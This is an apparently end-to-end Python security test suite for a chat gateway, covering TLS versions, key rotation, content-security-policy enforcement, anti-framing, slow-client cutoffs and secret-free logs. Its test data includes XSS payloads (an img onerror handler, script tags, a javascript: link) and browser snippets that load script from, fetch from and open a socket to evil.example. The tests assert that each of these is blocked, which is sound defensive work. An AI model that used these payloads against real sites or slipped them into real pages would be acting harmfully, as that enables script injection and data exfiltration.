"""TLS, keys, what a page may do, and what stands in the logs, with real processes and a real browser."""

import asyncio
import json
import ssl
import urllib.error
import urllib.request
from collections.abc import Iterator
from contextlib import nullcontext, suppress
from pathlib import Path
from typing import NamedTuple

import pytest
from playwright.async_api import expect

from gateway.headers import SECURITY
from tests.certificates import self_made
from tests.e2e.client import Client, slow_socket
from tests.e2e.conftest import Connect, Open, Party
from tests.e2e.page_tab import Tab, Wire
from tests.keys import rs256, rsa_jwk, shared_jwk, write_set
from tests.processes import Gateway, System, running
from tests.records import FAST, new_id, unique
from tests.waiting import eventually

PATIENCE_SECONDS = 20
HEAVY = "x" * 60_000


# TLS


class Secured(NamedTuple):
    """A gateway that speaks TLS, and what trusts its certificate."""

    gateway: Gateway
    trust: ssl.SSLContext

    @property
    def https(self) -> str:
        return self.gateway.http.replace("http:", "https:")

    @property
    def wss(self) -> str:
        return self.gateway.ws.replace("ws:", "wss:")

    def fetch(self, path: str) -> tuple[int, dict[str, str]]:
        with urllib.request.urlopen(self.https + path, timeout=5, context=self.trust) as answer:
            return answer.status, dict(answer.headers)

    def is_ready(self) -> bool:
        self.gateway.check()
        try:
            return self.fetch("/readyz")[0] == 200
        except urllib.error.URLError:
            return False


@pytest.fixture(scope="module")
def secured(stack: System, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Secured]:
    certificate, key = self_made(tmp_path_factory.mktemp("tls"))
    with stack.gateway(
        READCAST_GATEWAY_TLS_CERTIFICATE=str(certificate),
        READCAST_GATEWAY_TLS_KEY=str(key),
        READCAST_GATEWAY_HANDSHAKE_SECONDS="1",
    ) as gateway:
        secured = Secured(gateway, ssl.create_default_context(cafile=certificate))
        eventually(secured.is_ready, "a gateway that speaks TLS")
        yield secured


async def test_chat_goes_over_tls(secured: Secured, stack: System, dial: Connect, connect: Connect):
    group, alice, bob = unique("group:g"), unique("alice"), unique("bob")
    one = await dial(alice, url=secured.wss, ssl=secured.trust)
    await one.hello(stack.token(alice))
    await one.sync()
    await one.request("create", mailbox=group, policy={})
    await one.request("join", mailbox=group, members=[bob])
    two: Client = await connect(bob)
    await two.sync()
    await two.send(group, "over TLS to you")
    assert (await one.message(group, 1))["body"] == "over TLS to you"
    large = "x" * 60_000
    await one.send(group, large)
    assert (await one.message(group, 2))["body"] == large


@pytest.mark.parametrize(
    ("version", "accepted"), [("TLSv1_1", False), ("TLSv1_2", True), ("TLSv1_3", True)]
)
async def test_tls_begins_with_1_2(secured: Secured, version: str, accepted: bool):
    context = ssl.create_default_context(cafile=None)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_ciphers("ALL:@SECLEVEL=0")
    # Older ones are what the test is about.
    with nullcontext() if accepted else pytest.warns(DeprecationWarning, match="is deprecated"):
        context.minimum_version = context.maximum_version = ssl.TLSVersion[version]
    try:
        _, writer = await asyncio.open_connection("127.0.0.1", secured.gateway.port, ssl=context)
    except (ssl.SSLError, ConnectionError):
        assert not accepted
        return
    assert accepted
    await gone(writer)


async def test_an_unfinished_tls_handshake_is_cut_off(secured: Secured):
    reader, writer = await asyncio.open_connection("127.0.0.1", secured.gateway.port)
    async with asyncio.timeout(PATIENCE_SECONDS):
        assert await reader.read() == b""
    await gone(writer)


def test_browsers_are_told_to_come_by_tls_only(secured: Secured):
    _, headers = secured.fetch("/")
    assert headers["Strict-Transport-Security"] == "max-age=31536000"
    assert SECURITY.items() <= headers.items()


async def test_the_page_chats_over_tls(blank: Open, secured: Secured, stack: System, party: Party):
    group, alice, bob = await party("alice", "bob")
    tab = await blank(ignore_https_errors=True)
    tab.url = secured.https
    await tab.log_in(alice.user, stack.token(alice.user), group)
    await bob.send(group, {"text": "Do you hear me?"})
    await tab.reads("Do you hear me?")


@pytest.mark.parametrize("half", ["CERTIFICATE", "KEY"])
def test_half_of_tls_is_none(stack: System, tmp_path: Path, half: str):
    files = dict(zip(("CERTIFICATE", "KEY"), self_made(tmp_path), strict=True))
    gateway = stack.gateway(**{f"READCAST_GATEWAY_TLS_{half}": str(files[half])})
    assert gateway.wait(PATIENCE_SECONDS) == 2
    assert "set both" in gateway.tail()


# Keys


async def test_keys_are_rotated_while_the_gateway_runs(broker: str, tmp_path: Path, dial: Connect):
    keys = write_set(tmp_path, rsa_jwk("old"))
    settings = {"READCAST_AUTH_KEYS": str(keys), "READCAST_AUTH_SECRET": "", "READCAST_DEMO": "0"}
    with running(broker, tmp_path, **settings) as system:

        def token(kid: str, *more: str) -> str:
            made = system.faust("token", "--user", "ann", "--kid", kid, *more)
            assert made.returncode == 0, made.stderr
            return made.stdout.strip()

        async def welcomed(token: str) -> bool:
            client = await dial(url=system.ws)
            await client.put({"op": "hello", "token": token})
            await client.wait_or_close(lambda event: event["op"] == "welcome")
            assert client.close_code in (None, 4501)
            return client.close_code is None

        before = token("old")
        assert await welcomed(before)
        assert not await welcomed(rs256("new"))
        write_set(tmp_path, rsa_jwk("old", private=False), rsa_jwk("new"))
        after = token("new", "--role", "operator")
        assert await welcomed(before)
        assert await welcomed(after)
        write_set(tmp_path, rsa_jwk("new", private=False))
        assert not await welcomed(before)
        assert await welcomed(after)
        assert not await welcomed(system.signed({"sub": "ann", "exp": 1 << 40}, "s" * 32))
        refused = system.faust("token", "--user", "ann", "--kid", "new")
        assert refused.returncode
        assert "public half" in refused.stderr


# What a page may do

MARKUP = "<img src=x onerror='hacked=1'><script>hacked=1</script><b>bold</b>"
FOUND = """() => ({
  hacked: typeof hacked,
  elements: document.querySelectorAll("img, b, iframe, script:not([src])").length,
})"""
NOTHING = {"hacked": "undefined", "elements": 0}


async def test_no_text_from_the_gateway_becomes_markup(blank: Open, party: Party, stack: System):
    """Also where the rules would never let markup through: names, mailboxes, ids and errors."""
    group, alice, bob = await party("alice", "bob")
    tab = await blank()
    wire = await Wire().tap(tab)
    await tab.log_in(alice.user, stack.token(alice.user), group)
    await bob.send(group, {"text": "first"})
    await tab.reads("first")
    room = f"group:{MARKUP}"
    last = {"seq": 1, "id": new_id(), "from": MARKUP, "ts": 1, "body": {"text": MARKUP}}
    wire.forge(
        {"op": "message", "mailbox": group, **last, "seq": 2},
        {"op": "message", "mailbox": room, **last},
        {"op": "joined", "mailbox": room, "user": MARKUP, "by": MARKUP, "epoch": MARKUP},
        {"op": "cursor", "mailbox": room, "read": 0, "unread": 1},
        {
            "op": "notice",
            "mailbox": f"public:{MARKUP}",
            "publish": 1,
            "entry": 1,
            "title": MARKUP,
            "body": {"text": MARKUP, "link": f"javascript:{MARKUP}"},
            "ts": 1,
            "expires": 0,
            "priority": "urgent",
            "again": False,
        },
    )
    await expect(tab.message(MARKUP).locator(".author")).to_have_text(MARKUP)
    await expect(tab.page.get_by_role("heading", name=MARKUP)).to_be_visible()
    assert await tab.page.evaluate(FOUND) == NOTHING


VIOLATION = """() => new Promise((resolve) => {
  const heard = ({ effectiveDirective }) => resolve(effectiveDirective);
  document.addEventListener("securitypolicyviolation", heard);
  try { attempt(); } catch (error) { if (!(error instanceof TypeError)) throw error; }
})"""

TYPES = "require-trusted-types-for"
ATTEMPTS = {
    "inline script": (
        TYPES,
        "const s = document.createElement('script'); s.append('hacked=1'); document.head.append(s)",
    ),
    "foreign script": (
        "script-src-elem",
        "import('https://evil.example/x.js').catch(() => {})",
    ),
    "handler": (TYPES, "document.body.setAttribute('onclick', 'hacked=1'); document.body.click()"),
    "markup": (TYPES, "document.body.innerHTML = '<b>bold</b>'"),
    "code from text": (TYPES, "setTimeout('hacked=1')"),
    "inline style": ("style-src-attr", "document.body.setAttribute('style', 'display: none')"),
    "foreign picture": ("img-src", "new Image().src = 'https://evil.example/x.png'"),
    "foreign address": ("connect-src", "fetch('https://evil.example/').catch(() => {})"),
    "foreign socket": ("connect-src", "new WebSocket('wss://evil.example/ws')"),
    "frame": (
        "frame-src",
        "const f = document.createElement('iframe'); f.src = '/'; document.body.append(f)",
    ),
    "form": (
        "form-action",
        "const f = document.createElement('form'); f.action = '/'; document.body.append(f); f.submit()",
    ),
}


@pytest.mark.parametrize("name", ATTEMPTS)
async def test_a_page_may_do_nothing_that_it_need_not(tab: Open, name: str):
    directive, attempt = ATTEMPTS[name]
    one: Tab = await tab(unique("alice"))
    async with asyncio.timeout(PATIENCE_SECONDS):
        broken = await one.page.evaluate(VIOLATION.replace("attempt()", attempt))
    assert broken == directive
    assert await one.page.evaluate("typeof hacked") == "undefined"
    assert one.problems
    one.problems.clear()


async def test_no_other_page_may_frame_it(blank: Open, stack: System):
    page = f"<iframe src='{stack.http}/'></iframe>"

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        head = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n\r\n"
        writer.write((head + page).encode())
        writer.close()

    tab = await blank()
    async with await asyncio.start_server(answer, "127.0.0.1", 0) as server:
        await tab.page.goto(f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}/")
        (frame,) = tab.page.main_frame.child_frames
        assert frame.url.startswith("chrome-error:")
        await tab.page.close()
    assert any("frame-ancestors" in problem for problem in tab.problems)
    tab.problems.clear()


# Sockets


def held(gateway: Gateway) -> int:
    """Sockets of clients that a gateway holds."""
    process = Path(f"/proc/{gateway._child.pid}")
    own = {file.readlink().name for file in (process / "fd").iterdir() if file.is_symlink()}
    rows = [line.split() for line in (process / "net/tcp").read_text().splitlines()[1:]]
    port, listening = f":{gateway.port:04X}", "0A"
    return sum(
        row[1].endswith(port) and row[3] != listening and f"socket:[{row[9]}]" in own
        for row in rows
    )


async def test_who_reads_nothing_is_cut_off_with_what_is_unread(
    stack: System, party: Party, dial: Connect
):
    group, alice, bob = await party("alice", "bob", **FAST)
    with stack.gateway(
        READCAST_GATEWAY_SLOW_SECONDS="1", READCAST_GATEWAY_WRITE_BYTES="16384"
    ) as gateway:
        gateway.wait_ready()
        stuck = await dial(bob.user, url=gateway.ws, small_buffers=True)
        await stuck.hello(stack.token(bob.user))
        await stuck.request("watch", mailbox=group, mode="live")
        stuck.pause()
        assert held(gateway) == 1
        for _ in range(150):
            await alice.send(group, HEAVY)
        eventually(lambda: '"code": 4001' in gateway.tail(), "the end of who reads nothing")
        eventually(lambda: held(gateway) == 0, "its socket is given up")


async def test_who_reads_nothing_of_a_page_is_cut_off(stack: System):
    ask = b"GET /readcast.js HTTP/1.1\r\nHost: here\r\n\r\n" * 500
    with stack.gateway(READCAST_GATEWAY_SLOW_SECONDS="1") as gateway:
        gateway.wait_ready()
        with await slow_socket(gateway.ws) as stuck:
            await asyncio.get_running_loop().sock_sendall(stuck, ask)
            eventually(lambda: held(gateway) == 1, "it is let in")
            eventually(lambda: held(gateway) == 0, "its socket is given up")


# Logs


async def test_no_secret_and_no_token_stands_in_a_log(broker: str, tmp_path: Path, dial: Connect):
    shared = shared_jwk("shared")
    keys = write_set(tmp_path, rsa_jwk("now"), shared)
    with running(broker, tmp_path, gateways=2, READCAST_AUTH_KEYS=str(keys)) as system:
        console = system.gateway(READCAST_GATEWAY_LOG_JSON="0").wait_ready()
        tokens = {
            "good": system.token("alice"),
            "of a key": rs256("now"),
            "expired": system.token("alice", exp=1),
            "of an unknown key": rs256("later"),
            "wrongly signed": system.signed({"sub": "alice", "exp": 1 << 40}, "w" * 32),
            "no user": system.token("no user"),
            "nonsense": "nonsense-nonsense-nonsense",
        }
        for gateway in (*system.gateways[:2], console):
            await use(gateway, tokens.values(), dial)
        broken = tmp_path / "broken.json"
        broken.write_text(
            json.dumps({"keys": [{"kid": "x", "kty": "oct", "k": "c2hvcnQtc2hvcnQ"}]})
        )
        short = system.gateway(READCAST_AUTH_SECRET="short-secret-short")
        wrong = system.gateway(READCAST_AUTH_KEYS=str(broken))
        assert {short.wait(PATIENCE_SECONDS), wrong.wait(PATIENCE_SECONDS)} == {2}
        failed = system.faust("token", "--user", "a b")
        processes = [*system.workers, *system.gateways]
        system.stop()
        written = "".join(process.log.read_text() for process in processes)
        written += (tmp_path / "topics.log").read_text() + failed.stdout + failed.stderr
    assert written.count("session closed") >= 3
    assert "bad token" in written
    private = rsa_jwk("now")
    secrets = [system.secret, shared["k"], private["d"], private["p"], *tokens.values()]
    secrets += ["short-secret-short", "c2hvcnQtc2hvcnQ", "s3cret"]
    assert [secret for secret in secrets if secret in written] == []
    signatures = [token.rpartition(".")[2] for token in tokens.values()]
    assert [signature for signature in signatures if signature in written] == []


async def use(gateway: Gateway, tokens: object, dial: Connect) -> None:
    """Bring tokens in every way there is, right and wrong."""
    for token in tokens:
        client = await dial(url=gateway.ws)
        await client.put({"op": "hello", "token": token})
        await client.wait_or_close(lambda event: event["op"] == "welcome")
        await client.close()
        client = await dial(url=gateway.ws)
        await client.put_raw('{"op":"hello","token":"' + token)
        assert await client.closed() == 4503
        for path, headers in (
            ("/ws", {"Authorization": f"Bearer {token}"}),
            (f"/ws?token={token}", {}),
            (f"/{token}", {}),
        ):
            fetch(gateway.http + path, headers)
        await garble(gateway, f"GET / HTTP/1.1\r\nAuthorization: Bearer\x00 {token}\r\n\r\n")
    await garble(gateway, "GET /s3cret HTTP/9\r\n\r\n")


def fetch(url: str, headers: dict[str, str]) -> None:
    request = urllib.request.Request(url, headers=headers)
    with pytest.raises(urllib.error.HTTPError) as refused:
        urllib.request.urlopen(request, timeout=5)
    refused.value.close()


async def garble(gateway: Gateway, request: str) -> None:
    reader, writer = await asyncio.open_connection("127.0.0.1", gateway.port)
    writer.write(request.encode())
    async with asyncio.timeout(PATIENCE_SECONDS):
        assert b" 400 " in await reader.readline()
    await gone(writer)


async def gone(writer: asyncio.StreamWriter) -> None:
    """Close a socket, whatever the other side has done to it."""
    writer.close()
    with suppress(OSError):
        await writer.wait_closed()
